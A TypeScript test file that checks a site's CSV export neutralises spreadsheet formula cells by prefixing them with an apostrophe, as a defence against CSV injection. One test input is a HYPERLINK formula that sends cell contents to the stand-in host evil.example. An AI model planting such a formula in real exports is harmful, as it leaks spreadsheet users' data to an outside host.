import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, writeCsv } from "./csv.ts";

describe("the CSV the site writes", () => {
  it("neutralises every cell a spreadsheet would run as a formula", () => {
    expect(["=1+1", "+27 82", "-2", "@SUM(A1)", "\tx", "\rx", "Thandi", "", "a=b"].map(neutraliseFormula)).toEqual([
      "'=1+1",
      "'+27 82",
      "'-2",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "Thandi",
      "",
      "a=b",
    ]);
  });

  it("writes a formula cell as text a spreadsheet shows, and leaves numbers and other text as they are", () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"x")';
    const csv = writeCsv(
      [
        ["Description", "Price"],
        [formula, 329900],
        ["Two keys", -5],
      ],
      { record_delimiter: "windows" },
    );
    expect(parse(csv)).toEqual([
      ["Description", "Price"],
      [`'${formula}`, "329900"],
      ["Two keys", "-5"],
    ]);
  });
});
